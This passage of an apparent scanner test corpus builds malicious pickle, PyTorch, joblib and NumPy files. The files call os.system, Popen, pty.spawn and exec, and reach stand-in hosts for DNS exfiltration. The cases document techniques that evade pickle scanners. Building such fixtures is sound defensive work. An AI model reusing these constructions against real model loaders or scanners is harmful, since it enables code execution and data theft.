      "runpy._run_code executes a code string; missed by early denylists.",
    ),
    callCase(
      "pickle-pip-main",
      "pip",
      "main",
      ["install", "corpus-package"],
      ["https://nvd.nist.gov/vuln/detail/CVE-2025-1716", "https://avd.aquasec.com/nvd/2025/cve-2025-1716"],
      "pip.main installs a package (CVE-2025-1716): pip was not on picklescan's denylist.",
    ),
    callCase(
      "pickle-ensurepip-run-pip",
      "ensurepip",
      "_run_pip",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-xp4f-hrf8-rxw7")],
      "ensurepip._run_pip runs pip with attacker arguments.",
    ),
    callCase(
      "pickle-venv-create",
      "venv",
      "create",
      ["venv"],
      [PICKLESCAN_TESTS],
      "venv.create, whose prompt argument reaches a shell in the published proof.",
    ),
    callCase(
      "pickle-timeit",
      "timeit",
      "timeit",
      ["", PAYLOAD],
      [PICKLESCAN_TESTS, "https://github.com/advisories/GHSA-v7x6-rv5q-mhwc"],
      "timeit.timeit compiles and runs its setup string.",
    ),
    callCase(
      "pickle-cprofile-run",
      "cProfile",
      "run",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-49gj-c84q-6qm9")],
      "cProfile.run executes a statement under the profiler.",
    ),
    callCase(
      "pickle-cprofile-runctx",
      "cProfile",
      "runctx",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-9w88-8rmg-7g2p")],
      "cProfile.runctx, the same with explicit namespaces.",
    ),
    callCase(
      "pickle-profile-run",
      "profile",
      "run",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-7wx9-6375-f5wh")],
      "profile.run, the pure-Python profiler's statement runner.",
    ),
    callCase(
      "pickle-pdb-run",
      "pdb",
      "run",
      [PAYLOAD],
      ["https://github.com/trailofbits/fickling/pull/210"],
      "pdb.run executes a statement under the debugger.",
    ),
    callCase(
      "pickle-doctest-debug-script",
      "doctest",
      "debug_script",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-fqq6-7vqf-w3fg")],
      "doctest.debug_script runs a script string.",
    ),
    callCase(
      "pickle-numpy-runstring",
      "numpy.testing._private.utils",
      "runstring",
      [PAYLOAD],
      [PICKLESCAN_TESTS],
      "numpy.testing._private.utils.runstring: exec inside an allowlisted-looking numpy module.",
    ),
    callCase(
      "pickle-numpy-f2py-getlincoef",
      "numpy.f2py.crackfortran",
      "getlincoef",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-r8g5-cgf2-4m4m")],
      "numpy.f2py.crackfortran.getlincoef evaluates its expression.",
    ),
    callCase(
      "pickle-torch-collect-env-run",
      "torch.utils.collect_env",
      "run",
      ["id"],
      [PICKLESCAN_ADVISORY("GHSA-f745-w6jp-hpxx")],
      "torch.utils.collect_env.run runs a shell command from inside torch.",
    ),
    callCase(
      "pickle-torch-bottleneck-run-cprofile",
      "torch.utils.bottleneck.__main__",
      "run_cprofile",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-4r9r-ch6f-vxmx")],
      "torch.utils.bottleneck's run_cprofile executes code under cProfile.",
    ),
    callCase(
      "pickle-torch-jit-execwrapper",
      "torch.jit.unsupported_tensor_ops",
      "execWrapper",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-vr7h-p6mm-wpmh")],
      "torch.jit.unsupported_tensor_ops.execWrapper is exec under another name.",
    ),
    callCase(
      "pickle-torch-inductor-compile-file",
      "torch._inductor.codecache",
      "compile_file",
      ["", "", "sh"],
      [PICKLESCAN_TESTS],
      "torch._inductor.codecache.compile_file runs a compiler command line.",
    ),
    callCase(
      "pickle-pydoc-pipepager",
      "pydoc",
      "pipepager",
      ["", "echo corpus"],
      [PICKLESCAN_TESTS],
      "pydoc.pipepager pipes text to a shell command.",
    ),
    callCase(
      "pickle-pkgutil-resolve-name",
      "pkgutil",
      "resolve_name",
      ["os:system"],
      [PICKLESCAN_ADVISORY("GHSA-vvpj-8cmc-gx39"), "https://github.com/mmaitre314/picklescan/issues/66"],
      "pkgutil.resolve_name turns a string into any callable: one unblocked name reaches every blocked one.",
    ),
    callCase(
      "pickle-importlib-import-module",
      "importlib",
      "import_module",
      ["os"],
      ["https://github.com/mmaitre314/picklescan/pull/74", "https://github.com/mmaitre314/picklescan/issues/66"],
      "importlib.import_module imports any module by name at load time.",
    ),
    callCase(
      "pickle-marshal-loads",
      "marshal",
      "loads",
      ["\u00e3"],
      ["https://github.com/mmaitre314/picklescan/pull/74"],
      "marshal.loads rebuilds a code object from bytes.",
    ),
    callCase(
      "pickle-ctypes-cdll",
      "ctypes",
      "CDLL",
      ["libc.so.6"],
      [PICKLESCAN_ADVISORY("GHSA-4675-36f9-wf6r")],
      "ctypes.CDLL loads a shared library and exposes raw C calls.",
    ),
    callCase(
      "pickle-pty-spawn",
      "pty",
      "spawn",
      ["/bin/sh"],
      [PICKLESCAN_ADVISORY("GHSA-vqmv-47xg-9wpr")],
      "pty.spawn starts a shell.",
    ),
    callCase(
      "pickle-uuid-get-command-stdout",
      "uuid",
      "_get_command_stdout",
      ["id"],
      [PICKLESCAN_ADVISORY("GHSA-g38g-8gr9-h9xp")],
      "uuid._get_command_stdout runs a command to read a MAC address.",
    ),
    callCase(
      "pickle-imaplib-imap4-stream",
      "imaplib",
      "IMAP4_stream",
      ["id"],
      [PICKLESCAN_ADVISORY("GHSA-g38g-8gr9-h9xp")],
      "imaplib.IMAP4_stream opens its 'server' as a shell command.",
    ),
    callCase(
      "pickle-mailcap-findmatch",
      "mailcap",
      "findmatch",
      ["text/plain"],
      ["https://github.com/mmaitre314/picklescan/pull/69"],
      "mailcap.findmatch runs an entry's test command through os.system.",
    ),
    callCase(
      "pickle-webbrowser-open",
      "webbrowser",
      "open",
      ["https://example.invalid/"],
      [
        "https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/scanner.py",
        "https://github.com/protectai/modelscan/blob/main/modelscan/settings.py",
      ],
      "webbrowser.open launches a browser (or a BROWSER command) at a URL.",
    ),
    callCase(
      "pickle-distutils-write-file",
      "distutils.file_util",
      "write_file",
      ["pwned.env", "content"],
      [PICKLESCAN_ADVISORY("GHSA-m273-6v24-x4m4")],
      "distutils.file_util.write_file writes an arbitrary file.",
    ),
    callCase(
      "pickle-io-fileio",
      "_io",
      "FileIO",
      ["/etc/hosts", "r"],
      [PICKLESCAN_TESTS, "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"],
      "_io.FileIO opens a file (the C module name of io.FileIO).",
    ),
    callCase(
      "pickle-urllib-urlopen",
      "urllib.request",
      "urlopen",
      ["https://example.invalid/"],
      [PICKLESCAN_TESTS],
      "urllib.request.urlopen reaches the network at load time.",
    ),
    callCase(
      "pickle-ssl-get-server-certificate",
      "ssl",
      "get_server_certificate",
      ["example.invalid"],
      [PICKLESCAN_TESTS],
      "ssl.get_server_certificate: a DNS/TLS exfiltration channel from the published npy proof.",
    ),
    callCase(
      "pickle-posixsubprocess-fork-exec",
      "_posixsubprocess",
      "fork_exec",
      ["/bin/sh"],
      ["https://github.com/python/cpython/blob/main/Modules/_posixsubprocess.c"],
      "_posixsubprocess.fork_exec, the primitive under subprocess; not a published bypass but the same class.",
    ),
    methodCase(
      "pickle-bdb-run",
      "bdb",
      "Bdb.run",
      [PAYLOAD],
      [PICKLESCAN_TESTS],
      "bdb.Bdb.run as an unbound method with a stand-in self: a dotted STACK_GLOBAL name.",
    ),
    methodCase(
      "pickle-trace-run",
      "trace",
      "Trace.run",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-5qwp-399c-mjwf")],
      "trace.Trace.run executes a statement.",
    ),
    methodCase(
      "pickle-profile-profile-run",
      "profile",
      "Profile.run",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-x696-vm39-cp64")],
      "profile.Profile.run executes a statement.",
    ),
    methodCase(
      "pickle-code-interactive-interpreter",
      "code",
      "InteractiveInterpreter.runcode",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-cj3c-v495-4xqh")],
      "code.InteractiveInterpreter.runcode executes code.",
    ),
    methodCase(
      "pickle-idlelib-autocomplete",
      "idlelib.autocomplete",
      "AutoComplete.get_entity",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-6w4w-5w54-rjvr")],
      "idlelib.autocomplete.AutoComplete.get_entity evaluates a name.",
    ),
    methodCase(
      "pickle-idlelib-run-executive",
      "idlelib.run",
      "Executive.runcode",
      [PAYLOAD],
      [PICKLESCAN_ADVISORY("GHSA-m869-42cg-3xwr")],
      "idlelib.run.Executive.runcode executes code.",
    ),
    methodCase(
      "pickle-lib2to3-grammar-loads",
      "lib2to3.pgen2.grammar",
      "Grammar.loads",
      ["\u0080"],
      [PICKLESCAN_ADVISORY("GHSA-f54q-57x4-jg88")],
      "lib2to3.pgen2.grammar.Grammar.loads unpickles nested bytes.",
    ),
    methodCase(
      "pickle-asyncio-subprocess-transport",
      "asyncio.unix_events",
      "_UnixSubprocessTransport._start",
      ["id"],
      [
        PICKLESCAN_ADVISORY("GHSA-q77w-mwjj-7mqx"),
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
      ],
      "asyncio.unix_events._UnixSubprocessTransport._start spawns a process.",
    ),
    {
      id: "pickle-copyreg-reconstructor-init",
      ext: "pkl",
      bytes: new PickleWriter()
        .proto(2)
        .global("copyreg", "_reconstructor")
        .global("imaplib", "IMAP4_stream")
        .binPut(0)
        .binGet(0)
        .binUnicode("id")
        .tuple3()
        .reduce()
        .stop()
        .bytes(),
      minSeverity: "high",
      rules: CALL,
      sources: [
        "https://github.com/python/cpython/blob/main/Lib/copyreg.py",
        PICKLESCAN_ADVISORY("GHSA-g38g-8gr9-h9xp"),
      ],
      description:
        "copyreg._reconstructor (allowlisted: protocol 0-1 objects use it) calls base.__init__(obj, state): with imaplib.IMAP4_stream as the base, its __init__ runs the 'host' as a shell command.",
      note: "Not a published bypass: a dangerous class reached through an allowlisted constructor's arguments rather than called by REDUCE.",
    },
    {
      id: "pickle-pickle-loads-nested",
      ext: "pkl",
      bytes: reducePickle("_pickle", "loads", (w) => w.binBytes(reducePickle("os", "system", os, 2)).tuple1(), 4),
      minSeverity: "high",
      rules: CHAIN,
      sources: ["https://github.com/mmaitre314/picklescan/pull/25"],
      description:
        "_pickle.loads of a nested pickle in bytes: the inner load is not visible as opcodes of the outer one.",
    },
    {
      id: "pickle-torch-load-partial",
      ext: "pkl",
      bytes: framedPickle((w) => {
        // functools.partial(torch.load, 'other.bin', weights_only=False)() via partial's __setstate__.
        w.stackGlobalOf("functools", "partial").memoize();
        w.stackGlobalOf("torch", "load").memoize().tuple1().memoize().reduce().memoize();
        w.mark()
          .binGet(1)
          .shortBinUnicode("other.bin")
          .tuple1()
          .emptyDict()
          .shortBinUnicode("weights_only")
          .newFalse()
          .setItem();
        w.none().tuple().build();
        w.emptyTuple().reduce();
      }),
      minSeverity: "high",
      rules: CHAIN,
      sources: [PICKLESCAN_TESTS],
      description:
        "functools.partial wrapping torch.load with weights_only=False, called with no arguments: a nested load of another file.",
    },
    {
      id: "pickle-operator-attrgetter-chain",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("operator", "attrgetter").memoize();
        w.shortBinUnicode("system").tuple1().reduce().memoize();
        w.stackGlobalOf("builtins", "__import__").memoize().shortBinUnicode("os").tuple1().reduce().memoize();
        w.tuple1().reduce().memoize();
        w.shortBinUnicode("echo corpus").tuple1().reduce();
      }),
      minSeverity: "critical",
      rules: CHAIN,
      sources: ["https://github.com/mmaitre314/picklescan/pull/25", PICKLESCAN_TESTS],
      description: "operator.attrgetter('system') applied to builtins.__import__('os'), then called.",
    },
    {
      id: "pickle-methodcaller-pydoc-locate",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("operator", "methodcaller").memoize();
        w.shortBinUnicode("system").shortBinUnicode("echo corpus").tuple2().reduce().memoize();
        w.stackGlobalOf("pydoc", "locate").memoize().shortBinUnicode("os").tuple1().reduce().tuple1().reduce();
      }),
      minSeverity: "high",
      rules: CHAIN,
      sources: [PICKLESCAN_ADVISORY("GHSA-84r2-jw7c-4r5q")],
      description: "operator.methodcaller('system', cmd) applied to pydoc.locate('os').",
    },
    {
      id: "pickle-importlib-getattr-walk",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("importlib", "import_module").memoize().shortBinUnicode("os").tuple1().reduce().memoize().pop();
        w.stackGlobalOf("builtins", "getattr").memoize().binGet(1).shortBinUnicode("system").tuple2().reduce();
        w.shortBinUnicode("echo corpus").tuple1().reduce();
      }),
      minSeverity: "critical",
      rules: CHAIN,
      sources: [
        "https://github.com/protectai/modelscan/issues/331",
        "https://github.com/mmaitre314/picklescan/issues/66",
      ],
      description: "builtins.getattr(importlib.import_module('os'), 'system')(cmd): the callable is never a GLOBAL.",
    },
    {
      id: "pickle-memo-stack-global-ctf",
      ext: "pkl",
      bytes: new PickleWriter()
        .unicode("os")
        .put(2)
        .pop()
        .unicode("system")
        .put(3)
        .pop()
        .unicode("torch")
        .put(0)
        .pop()
        .unicode("LongStorage")
        .put(1)
        .pop()
        .get(2)
        .get(3)
        .stackGlobal()
        .mark()
        .unicode("echo corpus")
        .tuple()
        .reduce()
        .stop()
        .bytes(),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/mmaitre314/picklescan/issues/22"],
      description:
        "STACK_GLOBAL fed by GET of memoised strings whose PUT indices were chosen so a scanner tracking the last strings sees torch.LongStorage while the load resolves os.system.",
    },
    {
      id: "pickle-memo-binget-stack-global",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.shortBinUnicode("torch").memoize().pop().shortBinUnicode("FloatStorage").memoize().pop();
        w.shortBinUnicode("subprocess").memoize().pop().shortBinUnicode("getoutput").memoize().pop();
        w.binGet(2).binGet(3).stackGlobal().shortBinUnicode("id").tuple1().reduce();
      }),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/mmaitre314/picklescan/issues/22"],
      description:
        "The same memo trick in protocol 4 with MEMOIZE and BINGET: torch strings last on the stack, subprocess resolved.",
    },
    {
      id: "pickle-build-setattr-dotted-global",
      ext: "pkl",
      bytes: new PickleWriter()
        .proto(5)
        .global("numpy", "prod")
        .none()
        .mark()
        .unicode("a")
        .unicode("os")
        .dict()
        .tuple2()
        .build()
        .none()
        .mark()
        .unicode("b")
        .unicode("system")
        .dict()
        .tuple2()
        .build()
        .pop()
        .global("numpy", "prod.a")
        .put(0)
        .global("numpy", "prod.b")
        .put(1)
        .pop()
        .pop()
        .get(0)
        .get(1)
        .stackGlobal()
        .unicode("echo corpus")
        .tuple1()
        .reduce()
        .stop()
        .bytes(),
      minSeverity: "high",
      rules: CHAIN,
      sources: ["https://github.com/protectai/modelscan/issues/85"],
      description:
        "BUILD with slot state sets attributes on numpy.prod, dotted GLOBALs read them back as strings, and STACK_GLOBAL resolves os.system from them.",
      note: "The module and name strings only exist at load time (attributes set by BUILD on numpy.prod), so a static scanner can at best flag an unresolved call (high), not name os.system (critical).",
    },
    {
      id: "pickle-numpy-builtins-eval",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("numpy", "__builtins__").memoize().pop();
        w.stackGlobalOf("builtins", "getattr").memoize();
        w.binGet(0).shortBinUnicode("get").tuple2().reduce().memoize();
        w.shortBinUnicode("eval").tuple1().reduce().shortBinUnicode(PAYLOAD).tuple1().reduce();
      }),
      minSeverity: "high",
      rules: CHAIN,
      sources: ["https://github.com/protectai/modelscan/issues/330"],
      description: "numpy.__builtins__ taken as a global from an allowlisted module, then eval fetched from it.",
    },
    {
      id: "pickle-torch-dotted-walk",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("torch", "serialization.os.system").memoize().shortBinUnicode("echo corpus").tuple1().reduce();
      }),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://peps.python.org/pep-3154/", "https://github.com/protectai/modelscan/issues/85"],
      description:
        "A protocol 4 qualified name under the torch module that walks attributes to os.system (torch.serialization imports os).",
      note: "Derived from PEP 3154's dotted names rather than a published advisory.",
    },
    {
      id: "pickle-stack-global-from-string",
      ext: "pkl",
      bytes: new PickleWriter()
        .string("os")
        .string("system")
        .stackGlobal()
        .string("echo corpus")
        .tuple1()
        .reduce()
        .stop()
        .bytes(),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_ADVISORY("GHSA-9gvj-pp9x-gcfr")],
      description:
        "STACK_GLOBAL whose module and name come from protocol 0 quoted STRINGs rather than unicode opcodes.",
    },
    {
      id: "pickle-inst-exec",
      ext: "pkl",
      bytes: new PickleWriter().mark().string(PAYLOAD).inst("__builtin__", "exec").stop().bytes(),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description: "INST (import and call in one protocol 0 opcode) of __builtin__.exec instead of GLOBAL + REDUCE.",
    },
    {
      id: "pickle-obj-system",
      ext: "pkl",
      bytes: new PickleWriter().proto(1).mark().global("os", "system").string("echo corpus").obj().stop().bytes(),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://docs.python.org/3/library/pickletools.html"],
      description: "OBJ (protocol 1: call the class below the arguments) of os.system.",
    },
    {
      id: "pickle-newobj-ex-popen",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("subprocess", "Popen").memoize();
        w.shortBinUnicode("id").tuple1().emptyDict().shortBinUnicode("shell").newTrue().setItem().newObjEx();
      }),
      minSeverity: "high",
      rules: CALL,
      sources: [
        "https://docs.python.org/3/library/pickle.html#object.__reduce_ex__",
        "https://github.com/trailofbits/fickling/issues/63",
      ],
      description: "NEWOBJ_EX (what __reduce_ex__ with copyreg.__newobj_ex__ writes) of subprocess.Popen.",
    },
    {
      id: "pickle-ext1-registry",
      ext: "pkl",
      bytes: new PickleWriter().proto(2).ext1(0x2a).binUnicode("echo corpus").tuple1().reduce().stop().bytes(),
      minSeverity: "high",
      rules: CHAIN,
      sources: ["https://peps.python.org/pep-0307/#extension-registry"],
      description:
        "EXT1 pushes a global from copyreg's extension registry by code number: no module or name in the file; what it calls depends on the loading process.",
    },
    {
      id: "pickle-cloudpickle-codetype",
      ext: "pkl",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("types", "CodeType").memoize().mark();
        for (const n of [0, 0, 0, 0, 2, 64]) w.binInt1(n);
        w.shortBinBytes(latin1("\x97\x00d\x00S\x00")).emptyTuple().emptyTuple().emptyTuple();
        w.shortBinUnicode("<corpus>")
          .shortBinUnicode("f")
          .shortBinUnicode("f")
          .binInt1(1)
          .shortBinBytes(new Uint8Array(0));
        w.shortBinBytes(new Uint8Array(0)).emptyTuple().emptyTuple().tuple().reduce();
      }),
      minSeverity: "high",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description: "types.CodeType rebuilt from arguments, as cloudpickle does: a code object out of a pickle.",
    },
    {
      id: "pickle-after-benign-pickle",
      ext: "pkl",
      bytes: concat([
        new PickleWriter()
          .proto(2)
          .emptyList()
          .binPut(0)
          .mark()
          .binUnicode("a")
          .binUnicode("b")
          .appends()
          .stop()
          .bytes(),
        reducePickle("os", "system", os, 2),
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description:
        "A benign pickle followed by a malicious one in the same file; scanners that stop at the first STOP miss it.",
    },
    {
      id: "pickle-keyerror-after-payload",
      ext: "pkl",
      bytes: new PickleWriter()
        .proto(4)
        .global("os", "system")
        .unicode("echo corpus")
        .tuple1()
        .reduce()
        .pop()
        .shortBinUnicode("os")
        .memoize()
        .binGet(3)
        .binGet(0)
        .stackGlobal()
        .binInt1(0x42)
        .stop()
        .bytes(),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description:
        "os.system called, then a BINGET of a memo slot never written: a scanner that throws on the bad slot drops what it had found.",
    },
    {
      id: "pickle-broken-after-payload",
      ext: "pkl",
      bytes: latin1("cbuiltins\nexec\n(X>\nf = open('corpus.txt', 'a'); f.write('x'); f.close()tRX."),
      minSeverity: "critical",
      rules: CALL,
      sources: [
        PICKLESCAN_TESTS,
        "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
      ],
      description:
        "builtins.exec runs, then a truncated BINUNICODE breaks the stream (the nullifAI 'broken pickle'): the payload runs before the error.",
    },
    {
      id: "pickle-float-opcode-prefix",
      ext: "pkl",
      bytes: concat([latin1("}F1.0\n"), reducePickle("os", "system", os, 0)]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/trailofbits/fickling/issues/322"],
      description: "A protocol 0 FLOAT opcode before the payload: scanners whose opcode table lacks FLOAT stop there.",
    },
    {
      id: "pickle-global-odd-whitespace",
      ext: "pkl",
      bytes: latin1("cos\nsystem\n(S'echo corpus'\ntR.\n\n\t\t"),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description:
        "Protocol 0 GLOBAL os.system with trailing newlines and tabs after STOP (the invalid-bytes test of picklescan).",
    },
    {
      id: "pytorch-legacy-magic-eval",
      ext: "pt",
      bytes: concat([
        reducePickle("builtins", "eval", (w) => w.binUnicode("0x1950A86A20F9469CFC6C").tuple1(), 2),
        new PickleWriter().proto(2).binInt2(1001).stop().bytes(),
        new PickleWriter().proto(2).emptyDict().stop().bytes(),
        new PickleWriter().proto(2).emptyList().stop().bytes(),
        reducePickle("os", "system", os, 2),
        new PickleWriter().proto(2).none().stop().bytes(),
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description:
        "A legacy PyTorch file whose magic number is produced by eval and whose data pickle calls os.system.",
    },
    {
      id: "pytorch-bin-raw-pickle",
      ext: "bin",
      bytes: reducePickle("asyncio.unix_events", "_UnixSubprocessTransport._start", stringArgs("id"), 4),
      minSeverity: "high",
      rules: CALL,
      sources: ["https://github.com/mmaitre314/picklescan/security/advisories/GHSA-jgw4-cr84-mqxg"],
      description: "A bare pickle named like a PyTorch checkpoint (.bin, no zip) carrying an asyncio subprocess call.",
    },
  ];
  return cases;
}

function maliciousContainers(): Mal[] {
  const evil = reducePickle("os", "system", stringArgs("echo corpus"), 2);
  const evil4 = reducePickle("builtins", "eval", stringArgs(PAYLOAD), 4);
  const state = torchStateDictPickle(STATE_DICT);
  // The state dict with os.system prepended inside the same pickle: the load runs it, then builds the dict.
  const poisonedState = concat([evil.subarray(0, evil.length - 1).subarray(0), latin1("0"), state.subarray(2)]);
  return [
    {
      id: "torch-zip-poisoned-state-dict",
      ext: "pt",
      bytes: torchZip("archive", poisonedState, [WEIGHT, BIAS]),
      minSeverity: "critical",
      rules: CALL,
      sources: [
        "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
      ],
      description:
        "A real-shaped checkpoint whose data.pkl calls os.system, pops the result, then builds the state dict.",
    },
    {
      id: "torch-zip-odd-folder",
      ext: "pt",
      bytes: torchZip("x", evil, [WEIGHT]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py", PICKLESCAN_TESTS],
      description: "A checkpoint whose top-level folder is not 'archive' (torch reads any prefix before /data.pkl).",
    },
    {
      id: "torch-zip-nonstandard-entry-name",
      ext: "zip",
      bytes: zip([{ name: "data.txt", data: evil4 }]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2025-1889", PICKLESCAN_TESTS],
      description:
        "A zip whose pickle entry is named data.txt: scanners that pick pickles by extension skip it (CVE-2025-1889).",
    },
    {
      id: "torch-zip-header-name-mismatch",
      ext: "pt",
      bytes: zip([
        { name: "archive/data.pkl", localName: "archive/datap.kl", data: evil },
        { name: "archive/version", data: utf8("3\n") },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2025-1944", PICKLESCAN_TESTS],
      description:
        "The local header names the pickle differently from the central directory: Python's zipfile refuses it, torch does not (CVE-2025-1944).",
    },
    {
      id: "torch-zip-bad-crc",
      ext: "pt",
      bytes: zip([
        { name: "archive/data.pkl", data: evil, crcOverride: 0x12345678 },
        { name: "archive/version", data: utf8("3\n") },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: [
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-gx77-x2pv-48v7",
      ],
      description:
        "The pickle entry's CRC is wrong: a scanner that aborts on the CRC error skips what torch will still load.",
    },
    {
      id: "torch-zip-flag-bits",
      ext: "pt",
      bytes: zip([
        { name: "archive/data.pkl", data: evil, flags: 0x0001 },
        { name: "archive/version", data: utf8("3\n") },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2025-1945"],
      description:
        "The 'encrypted' flag bit is set on an entry that is not encrypted: Python's zipfile refuses to read it, other readers ignore the bit (CVE-2025-1945).",
      note: "The advisory names 'certain flag bits' without saying which; bit 0 is the one Python's zipfile acts on.",
    },
    {
      id: "torch-zip-in-zip",
      ext: "zip",
      bytes: zip([{ name: "checkpoints/model.pt", data: torchZip("archive", evil) }]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/protectai/modelscan/blob/main/modelscan/settings.py"],
      description: "A malicious checkpoint stored inside another zip: the scanner must descend into nested archives.",
    },
    {
      id: "torch-legacy-tar",
      ext: "tar",
      bytes: tar([
        { name: "sys_info", data: new PickleWriter().proto(2).emptyDict().stop().bytes() },
        { name: "pickle", data: evil },
        { name: "storages", data: new PickleWriter().proto(2).binInt1(0).stop().bytes() },
        { name: "tensors", data: new PickleWriter().proto(2).binInt1(0).stop().bytes() },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py"],
      description:
        "The oldest PyTorch format, a tar of sys_info, pickle, storages and tensors, with os.system in 'pickle'.",
    },
    {
      id: "nullifai-7z-pytorch",
      ext: "pt",
      bytes: concat([
        Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04),
        new Uint8Array(24),
        torchZip("archive", evil),
      ]),
      minSeverity: "info",
      rules: [RULES.any],
      sources: [
        "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
        "https://safeguard.sh/resources/blog/nullifai-broken-pickles-huggingface-attack",
      ],
      description:
        "A PyTorch file in a 7z container (nullifAI): formats a scanner does not open must be reported, never passed as clean.",
      note: "Only requires that the file is reported (unknown format); the 7z headers are a stand-in, not a decodable 7z archive.",
    },
    {
      id: "joblib-os-system",
      ext: "joblib",
      bytes: framedPickle((w) => {
        w.stackGlobalOf("joblib.numpy_pickle", "NumpyArrayWrapper").memoize().pop();
        w.stackGlobalOf("os", "system").memoize().shortBinUnicode("echo corpus").tuple1().reduce();
      }),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/protectai/modelscan/blob/main/modelscan/settings.py"],
      description: "A joblib dump (a pickle naming joblib's array wrapper) that calls os.system.",
    },
    {
      id: "torch-zip-duplicate-data-pkl",
      ext: "pt",
      bytes: zip([
        { name: "archive/data.pkl", data: state },
        { name: "archive/data.pkl", data: evil },
        { name: "archive/version", data: utf8("3\n") },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: [
        "https://nvd.nist.gov/vuln/detail/CVE-2025-1944",
        "https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",
      ],
      description:
        "Two central-directory entries named archive/data.pkl, a clean state dict then os.system: readers disagree on which one wins, so both must be checked.",
      note: "A parser-differential variant of the zip-name advisories rather than a published case.",
    },
    {
      id: "torch-zip-deflated-data-pkl",
      ext: "pt",
      bytes: zip([
        { name: "archive/data.pkl", data: poisonedState, deflate: true },
        { name: "archive/version", data: utf8("3\n") },
      ]),
      minSeverity: "critical",
      rules: CALL,
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py"],
      description:
        "A checkpoint whose data.pkl is deflate-compressed (torch.save stores it, torch.load reads either): the pickle is only visible after inflating.",
    },
    {
      id: "joblib-zlib-compressed",
      ext: "joblib",
      bytes: zlibSync(reducePickle("os", "system", stringArgs("echo corpus"), 4), { level: 3 }),
      minSeverity: "high",
      rules: CALL,
      sources: [
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        "https://github.com/protectai/modelscan/blob/main/modelscan/settings.py",
      ],
      description:
        "A joblib.dump(..., compress=3) file: a zlib stream around the pickle, which joblib.load inflates and unpickles.",
    },
    {
      id: "numpy-npy-v2-object-array",
      ext: "npy",
      bytes: npy("|O", [1], reducePickle("os", "system", stringArgs("echo corpus"), 3), false, 2),
      minSeverity: "high",
      rules: CALL,
      sources: ["https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"],
      description: "An object array in .npy format 2.0 (four-byte header length) whose pickle calls os.system.",
    },
    {
      id: "numpy-npy-object-array",
      ext: "npy",
      bytes: npy(
        "|O",
        [1],
        reducePickle(
          "ssl",
          "get_server_certificate",
          (w) => w.binUnicode("x.example.invalid").binInt2(443).tuple2().tuple1(),
          2,
        ),
      ),
      minSeverity: "high",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description:
        "An .npy object array whose pickled element calls ssl.get_server_certificate (the published DNS exfiltration proof).",
    },
    {
      id: "numpy-npz-object-array",
      ext: "npz",
      bytes: zip([
        { name: "a.npy", data: npy("<i8", [2], int64s([1, 2])) },
        {
          name: "b.npy",
          data: npy("|O", [1], reducePickle("os", "system", stringArgs("echo corpus"), 3)),
          deflate: true,
        },
      ]),
